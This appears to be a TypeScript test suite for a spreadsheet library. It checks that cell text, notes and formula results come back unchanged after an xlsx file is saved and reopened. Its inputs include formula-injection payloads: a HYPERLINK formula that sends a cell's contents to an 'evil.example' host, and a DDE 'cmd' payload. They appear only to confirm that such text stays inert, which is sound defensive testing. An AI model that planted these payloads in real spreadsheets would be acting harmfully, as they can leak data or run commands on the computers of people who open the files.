/** Whatever is written in a cell comes back letter for letter, from the file and into it. */
import fc from 'fast-check';
import { openWorkbookFile } from '../../files/xlsx';
import { cellKey } from '../../workbook/model';
import { firstSheet, ONE, parts, STILL, valueAt, zipped } from './make';
import { tries } from '../tries';
import { unzip } from './reopen';

/** Each text goes into a cell, into the file and back. */
async function returned(texts: readonly string[]): Promise<unknown[]> {
  const file = await openWorkbookFile(zipped(parts(ONE)), 'texts.xlsx');
  texts.forEach((value, index) => firstSheet(file).cells.set(cellKey(index + 2, 1), { value }));
  const once = await openWorkbookFile(await file.save(STILL), 'texts.xlsx');
  // A second time as cells that nobody touched.
  const twice = await openWorkbookFile(await once.save(STILL), 'texts.xlsx');
  expect(texts.map((_, index) => valueAt(twice, index + 2, 1))).toEqual(texts.map((_, index) => valueAt(once, index + 2, 1)));
  expect([...firstSheet(twice).cells.values()].some(({ formula }) => formula !== undefined)).toBe(false);
  return texts.map((_, index) => valueAt(twice, index + 2, 1));
}

test('texts that a program might take for something else come back', async () => {
  const texts = [
    ...[
      '=1+1',
      '+1',
      '-1',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      "'=1",
      '=HYPERLINK("http://evil.example?"&A1)',
      "=cmd|'/c calc'!A1",
      '=',
      '==',
      '"=1"',
    ],
    ...[
      '007',
      '1e5',
      '1,000',
      '12/5',
      '1-2',
      'TRUE',
      'false',
      '#N/A',
      '#VALUE!',
      '#SPILL!',
      '£3',
      '50%',
      '0x1F',
      'NaN',
      'Infinity',
      'null',
    ],
    ...[
      ' ',
      '  a',
      'a  ',
      '\n',
      '\na\n',
      'a\r\nb',
      'a\rb',
      '\t',
      'a\tb',
      '\u00a0',
      '\u200b',
      '\ufeff',
      '\u2028',
      'a\u0000b',
      '\u0007',
      '\u001f',
    ],
    ...['👩🏽‍🏫', 'e\u0301', '\u0301', 'שלום', '\u202eabc', 'مرحبا', '𝒳', 'ﬀ', 'Zoë', '漢字', '\u{10ffff}'],
    ...[
      '<b>&amp;</b>',
      ']]>',
      '<![CDATA[x]]>',
      '&#65;',
      '&lt;',
      '<?x?>',
      '<!--',
      '"\'',
      '\\n',
      '${x}',
      '{{x}}',
      '__proto__',
      'constructor',
    ],
    ...['_x0041_', '_x000D_', '_x005F_', '_x0041', '_x0041\r', '_x0041_x0042_', '__x0041_', '_X0041_', '_x00g1_', '_x0041\u0001', 'a_x'],
    ...['x'.repeat(32_767), '👩'.repeat(16_000), '&'.repeat(32_767), '\n'.repeat(5000)],
  ];
  expect(await returned(texts)).toEqual(texts);
});

test('half an emoji, and codes that are no letters, come back too: they are written as the format’s own escapes', async () => {
  const texts = [
    '\ud83d',
    '\ude00',
    'a\ud83d',
    '\ud83d\ud83d\ude00',
    '_x0041\ud83d',
    '\ufffe',
    '\uffff',
    '\udbff',
    'AB \ud83d CD',
    '_xD83D_',
  ];
  expect(await returned(texts)).toEqual(texts);
});

test('any text whatever comes back', async () => {
  const tricky = fc.constantFrom(
    '_x',
    '0041',
    '_',
    'D83D',
    '\r',
    '\n',
    '\ud83d',
    '\ude00',
    '&',
    '<',
    '=',
    '#N/A',
    '\u0001',
    ' ',
    "'",
    '"',
    '\ufffe',
  );
  const text = fc.oneof(
    fc.string({ unit: 'binary', minLength: 1 }),
    fc.array(tricky, { minLength: 1 }).map((some) => some.join('')),
  );
  await fc.assert(
    fc.asyncProperty(fc.array(text, { minLength: 20, maxLength: 40 }), async (texts) => {
      expect(await returned(texts)).toEqual(texts);
    }),
    { numRuns: tries(12) },
  );
});

test('notes come back as well, also those in which Excel has put its escapes', async () => {
  const notes = ['=1', '_x0041_', 'two\nlines', '  spaces  ', '👩🏽‍🏫 <b>&', '\u0001', '\ud83d', "O'Brien"];
  const file = await openWorkbookFile(zipped(parts(ONE)), 'notes.xlsx');
  notes.forEach((note, index) => firstSheet(file).cells.set(cellKey(index + 2, 1), { value: 'x', note }));
  const once = await openWorkbookFile(await file.save(STILL), 'notes.xlsx');
  const twice = await openWorkbookFile(await once.save(STILL), 'notes.xlsx');
  expect(notes.map((_, index) => firstSheet(twice).cells.get(cellKey(index + 2, 1))?.note)).toEqual(notes);
});

test('a formula’s text result comes back as it was, though nobody here can work it out', async () => {
  const result = '_x005F_x0041_ &amp; half';
  const rows = `<row r="1"><c r="A1" t="str"><f>LEFT(B1)</f><v>${result}</v></c></row>`;
  const file = await openWorkbookFile(zipped(parts(rows)), 'result.xlsx');
  const back = await openWorkbookFile(await file.save(STILL), 'result.xlsx');
  const stored = [file, back].map((opened) => firstSheet(opened).cells.get(cellKey(1, 1))?.stored);
  expect(stored).toEqual(['_x0041_ & half', '_x0041_ & half']);
});

test('text that begins with = is text in the saved file, whether it came as a shared text or within its cell', async () => {
  const strings = '<si><t>=1+1</t></si>';
  const rows =
    '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="inlineStr"><is><t>=2+2</t></is></c><c r="C1"><f>3+3</f><v>6</v></c></row>';
  const file = await openWorkbookFile(zipped(parts(rows, { strings })), 'injection.xlsx');
  const back = await openWorkbookFile(await file.save(STILL), 'injection.xlsx');
  expect([1, 2, 3].map((column) => firstSheet(back).cells.get(cellKey(1, column)))).toEqual([
    { value: '=1+1' },
    { value: '=2+2' },
    { value: '', formula: '=3+3', stored: 6 },
  ]);
});

test('texts are found under whatever capitals their part’s name is written in', async () => {
  const { 'xl/sharedStrings.xml': strings = '', ...files } = parts('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', {
    strings: '<si><t>AB</t></si>',
  });
  expect(valueAt(await openWorkbookFile(zipped({ ...files, 'xl/SharedStrings.xml': strings }), 'capitals.xlsx'), 1, 1)).toBe('AB');
});

test('a link over several cells does not make the sheet larger, and stays as it is written', async () => {
  const after = '<hyperlinks><hyperlink ref="A1:B2" location="Register!C3" tooltip="here &amp; now"/></hyperlinks>';
  const file = await openWorkbookFile(zipped(parts(ONE, { after })), 'links.xlsx');
  expect([firstSheet(file).rowCount, firstSheet(file).columnCount]).toEqual([1000, 26]);
  firstSheet(file).cells.set(cellKey(1, 3), { value: 'new' });
  const sheet = unzip(await file.save(STILL)).get('xl/worksheets/sheet1.xml');
  expect(sheet).toContain(after);
  expect(sheet).toContain('>new<');
});

test('a number that is no date, though its column is one of dates, is not lost', async () => {
  const styles =
    '<styleSheet><fonts><font/></fonts><fills><fill/></fills><borders><border/></borders><cellXfs><xf/><xf numFmtId="14"/></cellXfs></styleSheet>';
  const files = parts(
    '<row r="1"><c r="A1" s="1"><v>7911123456</v></c><c r="B1" s="1"><v>-5</v></c><c r="C1" s="1"><v>46279.5</v></c></row>',
  );
  const relations = (files['xl/_rels/workbook.xml.rels'] ?? '').replace(
    '</Relationships>',
    '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>',
  );
  const bytes = zipped({ ...files, 'xl/styles.xml': styles, 'xl/_rels/workbook.xml.rels': relations });
  const file = await openWorkbookFile(bytes, 'dates.xlsx');
  const back = await openWorkbookFile(await file.save(STILL), 'dates.xlsx');
  for (const one of [file, back]) expect([1, 2, 3].map((column) => valueAt(one, 1, column))).toEqual([7_911_123_456, -5, 46279.5]);
});

test.each([
  ['.xlsx', zipped(parts(`<row r="7"><c r="C7" t="inlineStr"><is><t>${'x'.repeat(50_001)}</t></is></c></row>`))],
  ['.csv', new TextEncoder().encode(`${'\n'.repeat(6)},,${'x'.repeat(50_001)}\n`)],
])('a text longer than any sheet takes is named by its cell in an %s', async (ending, bytes) => {
  await expect(openWorkbookFile(bytes, `long${ending}`)).rejects.toThrow(/more than 50,000 characters in cell C7/);
});
